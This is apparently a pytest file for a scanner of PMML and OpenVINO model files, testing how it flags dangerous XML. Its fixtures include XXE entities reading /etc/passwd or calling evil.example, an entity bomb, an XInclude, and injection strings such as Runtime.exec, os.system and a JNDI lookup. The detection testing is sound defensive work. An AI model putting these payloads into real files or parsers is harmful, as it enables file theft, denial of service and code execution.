"""XML, PMML and OpenVINO: entities, inclusions, code and foreign layers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelward.artifact.formats import openvino, pmml
from modelward.artifact.formats.xml import DEPTH
from modelward.artifact.reading import Reading
from modelward.artifact.sniff import sniff
from modelward.artifact.verdict import inspect_bytes

HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
TREE = """<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
<Header><Application name="tool" version="1"/>{header}</Header>
<DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
<TransformationDictionary>{transform}</TransformationDictionary>
<TreeModel functionName="regression" {model}><MiningSchema><MiningField name="x"/>
<MiningField name="y" usageType="target"/></MiningSchema>
<Node score="1"><True/><Node score="2"><SimplePredicate field="x" operator="lessThan" value="3.5"/></Node></Node>
</TreeModel></PMML>"""
NET = """<net name="m" version="11"><layers>{layers}
<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>
<layer id="1" name="w" type="Const" version="opset1"><data {const} element_type="f32" shape="2,3"/></layer>
<layer id="3" name="y" type="Result" version="opset1"/>
</layers><edges/><rt_info><Runtime_version value="2026"/></rt_info></net>"""


def tree(header="", transform="", model="", doctype=""):
    return (HEAD + doctype + TREE.format(header=header, transform=transform, model=model)).encode()


def net(layers="", const='offset="0" size="24"', doctype=""):
    return (HEAD + doctype + NET.format(layers=layers, const=const)).encode()


# --- recognition --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "start",
    ["", "\ufeff", HEAD, HEAD + "\n<!-- a > b -->\n", '<!DOCTYPE PMML [<!ENTITY a "b]">\n]>', "\n  "],
)
def test_pmml_is_recognised_behind_any_prolog(start):
    assert sniff((start + TREE).encode()).format == "pmml"


def test_utf_16_and_prefixes_are_recognised(verdict):
    text = TREE.format(header="", transform="", model="")
    assert verdict(text.encode("utf-16"))[0] == "inert"
    prefixed = text.replace("<PMML xmlns", "<p:PMML xmlns:p").replace("</PMML", "</p:PMML").encode()
    assert sniff(prefixed).format == "pmml"


def test_a_long_document_type_hides_nothing(verdict):
    inside = "<!DOCTYPE PMML [<!-- " + "x" * 70_000 + ' --><!ENTITY e SYSTEM "file:///etc/passwd">]>'
    assert verdict(tree(doctype=inside)) == ("dangerous", {"xml.external-entity"})


def test_other_xml_is_left_alone():
    for text in ("<svg/>", "<html><net/></html>", "<network version='1'/>", "<!-- <PMML/> -->", "< PMML>"):
        assert sniff(text.encode()).format not in {"pmml", "openvino"}


def test_many_comments_cost_no_time():
    assert sniff(b"<!-- -->" * 8000 + b"<x/>").format not in {"pmml", "openvino"}


# --- entities -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("write", [tree, net])
@pytest.mark.parametrize(
    ("doctype", "rule"),
    [
        ('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">', "xml.external-doctype"),
        ('<!DOCTYPE r PUBLIC "-//X" "file:///etc/passwd">', "xml.external-doctype"),
        ('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "xml.external-entity"),
        ('<!DOCTYPE r [<!ENTITY e PUBLIC "-//X" "http://evil.example/">]>', "xml.external-entity"),
        ('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', "xml.external-entity"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_dangerous(verdict, write, doctype, rule):
    root = "PMML" if write is tree else "net"
    assert verdict(write(doctype=doctype.replace(" r ", f" {root} "))) == ("dangerous", {rule})


def test_exploding_entities_are_dangerous(verdict):
    lines = ['<!ENTITY a0 "aaaaaaaaaa">'] + [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9)]
    data = tree(doctype=f"<!DOCTYPE PMML [{''.join(lines)}]>", header="&a8;")
    assert verdict(data) == ("dangerous", {"xml.entity-bomb"})


def test_a_plain_entity_and_the_published_document_type_are_inert(verdict):
    assert verdict(tree(doctype='<!DOCTYPE PMML [<!ENTITY a "b">]>', header="&a;"))[0] == "inert"
    published = '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'
    assert verdict(tree(doctype=published))[0] == "inert"


def test_inclusion_is_dangerous(verdict):
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )
    assert verdict(tree(header=include)) == ("dangerous", {"xml.include"})


def test_damage_is_unproven(verdict):
    for data in (tree()[:-5], tree() + b"<x>", tree().replace(b"</Header>", b""), net()[:200]):
        assert verdict(data) == ("unproven", {"artifact.unread"})
    deep = tree(header="<Extension>" * (DEPTH + 1) + "</Extension>" * (DEPTH + 1))
    assert verdict(deep) == ("unproven", {"artifact.unread"})
    assert verdict(tree().replace(b"UTF-8", b"EBCDIC"))[0] == "unproven"


# --- PMML ---------------------------------------------------------------------------------------------------


def test_facts_of_pmml():
    report = inspect_bytes(tree(), "m.pmml")
    assert (report.format, report.verdict) == ("pmml", "inert")
    assert report.facts == {
        "framework": "pmml", "producer": "tool 1", "format_version": "4.4", "operators": ["TreeModel"],
        "inputs": ["x"], "outputs": ["y"],
    }  # fmt: skip


@pytest.mark.parametrize(
    "header",
    [
        '<Extension name="user" value="anna" extender="Rattle/PMML"/>',
        '<Extension name="timestamp" value="2026-01-01 00:00:00" extender="SPSS">text 1.5 (x)</Extension>',
        "<Annotation>Evaluated with rpart (see http://example.org/doc)</Annotation>",
    ],
)
def test_ordinary_extensions_are_inert(verdict, header):
    assert verdict(tree(header=header))[0] == "inert"


@pytest.mark.parametrize(
    "header",
    [
        "<Extension>Runtime.getRuntime().exec('id')</Extension>",
        '<Extension name="x" value="__import__(&apos;os&apos;).system(1)"/>',
        "<Extension><![CDATA[<script>alert(1)</script>]]></Extension>",
        "<Extension>java.lang.ProcessBuilder</Extension>",
        '<Extension value="${jndi:ldap://evil.example/a}"/>',
        "<Extension>os.sys<!-- split -->tem</Extension>".replace("<!-- split -->", ""),
        "<Annotation>#{T(java.lang.Runtime)}</Annotation>",
    ],
)
def test_code_is_dangerous(verdict, header):
    assert verdict(tree(header=header)) == ("dangerous", {"pmml.code"})


@pytest.mark.parametrize(
    ("function", "expected"),
    [
        ("max", "inert"),
        ("com.acme.Function", "unproven"),
        ("java.lang.Runtime.exec", "dangerous"),
        ("a.b", "inert"),
    ],
)
def test_functions_that_are_classes(verdict, function, expected):
    derived = (
        f'<DerivedField name="d"><Apply function="{function}"><FieldRef field="x"/></Apply></DerivedField>'
    )
    assert verdict(tree(transform=derived))[0] == expected


def test_a_function_that_the_file_defines_is_inert(verdict):
    made = '<DefineFunction name="com.acme.f"><Constant>1</Constant></DefineFunction>'
    assert verdict(tree(transform=made + '<Apply function="com.acme.f"/>'))[0] == "inert"


@pytest.mark.parametrize(
    "transform",
    [
        '<X-JavaExpression className="com.acme.Eval"/>',
        '<JavaModel className="x"/>',
        '<Thing class="org.acme.Evil"/>',
    ],
)
def test_classes_of_the_application_are_unproven(verdict, transform):
    assert verdict(tree(transform=transform)) == ("unproven", {"pmml.class"})


# --- OpenVINO -----------------------------------------------------------------------------------------------


def test_an_openvino_model_is_inert_and_has_facts():
    report = inspect_bytes(net(), "m.xml")
    assert (report.format, report.verdict) == ("openvino", "inert")
    assert report.facts["inputs"] == ["x"]
    assert report.facts["outputs"] == ["y"]
    assert report.facts["parameters"] == 6
    assert report.facts["format_version"] == "IR 11"
    assert report.facts["operators"] == ["Parameter", "Const", "Result"]


@pytest.mark.parametrize(
    ("opset", "kind", "expected"),
    [
        ("opset16", "Relu", "inert"), ("opset1", "SomethingNew", "unproven"), ("util", "SomethingNew", "inert"), ("", "Convolution", "inert"),
        ("extension", "BPETokenizer", "inert"), ("extension", "EvilLayer", "unproven"),
        ("evil_ops", "Relu", "unproven"), ("opset1x", "Relu", "unproven"),
    ],
)  # fmt: skip
def test_operator_sets(verdict, opset, kind, expected):
    layer = f'<layer id="9" name="l" type="{kind}" version="{opset}"/>'
    nested = f'<layer id="8" name="t" type="TensorIterator" version="opset1"><body><layers>{layer}</layers></body></layer>'
    assert verdict(net(layer))[0] == expected
    assert verdict(net(nested))[0] == expected


@pytest.mark.parametrize(
    ("const", "expected"),
    [
        ('offset="0" size="24"', "inert"), ('offset="8" size="24"', "unproven"),
        ('offset="-8" size="24"', "unproven"), ('offset="0" size="x"', "unproven"),
        ('offset="99999999999999999999999999" size="1"', "unproven"),
    ],
)  # fmt: skip
def test_weights_lie_within_the_file_beside(const, expected):
    beside = {"m.bin": b"\0" * 24}.get
    report = inspect_bytes(net(const=const), "folder/m.xml", beside=beside)
    assert report.verdict == expected


def test_without_the_file_beside_offsets_are_taken_as_they_are():
    assert inspect_bytes(net(const='offset="800" size="24"'), "m.xml").verdict == "inert"


# --- noise --------------------------------------------------------------------------------------------------

EDITS = st.lists(st.tuples(st.integers(0, 2000), st.integers(0, 2), st.integers(0, 255)), max_size=5)


@given(EDITS, st.booleans())
def test_mutations_raise_nothing(survives, mutated, edits, pick):
    data = (
        tree(header="<Extension>x.y(1)</Extension>", doctype='<!DOCTYPE PMML [<!ENTITY a "b">]>')
        if pick
        else net()
    )
    survives(pmml.read if pick else openvino.read, mutated(data, edits), "m.xml")


@given(st.text(max_size=80), st.binary(max_size=40))
def test_noise_raises_nothing(survives, text, data):
    for content in (f"<PMML a='{text}'>{text}</PMML>".encode(errors="replace"), data):
        survives(pmml.read, content)
        survives(openvino.read, content)


def test_numbers_are_skipped_quickly():
    into = Reading()
    pmml.read(tree(header="<Array>" + "1.5 2.25 " * 20_000 + "</Array>"), into)
    assert into.proven
    assert not into.events


# --- what stands before and around the root -----------------------------------------------------------------

FOREIGN = '<net name="a" version="11"><layers><layer id="0" name="e" type="Evil" version="extension"/></layers></net>'
CODE = '<PMML version="4.4"><Extension name="x">Runtime.getRuntime().exec("x")</Extension></PMML>'
LONG = "x" * 70_000


@pytest.mark.parametrize(
    "text",
    [
        f"<?xml version='1.0'?><!--{LONG}-->{FOREIGN}",
        " \n" * 40_000 + FOREIGN,
        FOREIGN.replace('"a"', '"a>b"').replace("<layers", f"<!--{LONG}--><layers"),
        f'<!DOCTYPE x [<!ENTITY a "]>">]>{FOREIGN}',
        f"<?target {LONG}?>{FOREIGN}",
        f"\ufeff{FOREIGN}",
    ],
)
def test_a_net_is_known_however_far_its_root_is(verdict, text):
    assert verdict(text.encode()) == ("unproven", {"openvino.custom-layer"})
    assert verdict(text.encode("utf-16"))[0] == "unproven"


@pytest.mark.parametrize(
    "before", [f"<!--{LONG}-->", "\n" * 70_000, f'<!DOCTYPE PMML [<!ENTITY a "{LONG}">]>']
)
def test_a_pmml_is_known_however_far_its_root_is(verdict, before):
    assert verdict((before + CODE).encode()) == ("dangerous", {"pmml.code"})


def test_what_strict_readers_refuse_is_not_clean(verdict):
    """pugixml, which OpenVINO reads with, forgives what expat does not."""
    for text in (
        FOREIGN.replace("<layers>", "<layers>&undefined;\x01"),
        FOREIGN + "<again/>",
        FOREIGN.replace("</net>", ""),
    ):
        assert verdict(text.encode())[0] == "unproven"


@pytest.mark.parametrize("root", ["html", "svg", "network", "pmml", "nets", "project"])
def test_other_roots_are_left_alone(root):
    assert (
        inspect_bytes(f"<{root} version='1'><PMML/><net version='1'/></{root}>".encode(), "m").verdict is None
    )


def test_text_of_an_entity_is_looked_at(verdict):
    declared = '<!DOCTYPE PMML [<!ENTITY e "Runtime.getRuntime().exec(1)">]>'
    assert verdict((declared + '<PMML version="4.4"><Extension>&e;</Extension></PMML>').encode()) == (
        "dangerous",
        {"pmml.code"},
    )


def test_elements_of_an_entity_are_not_read(verdict):
    declared = '<!DOCTYPE PMML [<!ENTITY e "<JavaModel/>">]>'
    assert verdict((declared + '<PMML version="4.4">&e;</PMML>').encode()) == (
        "unproven",
        {"xml.entity-markup"},
    )
    assert verdict(b'<!DOCTYPE PMML [<!ENTITY e "1.5">]><PMML version="4.4">&e;</PMML>')[0] == "inert"


def test_the_list_of_layers_is_openvinos():
    assert {
        "Const",
        "ReLU",
        "SoftMax",
        "PReLU",
        "Parameter",
        "Result",
        "Convolution",
        "If",
    } <= openvino.known()
    assert len(openvino.known()) > 190
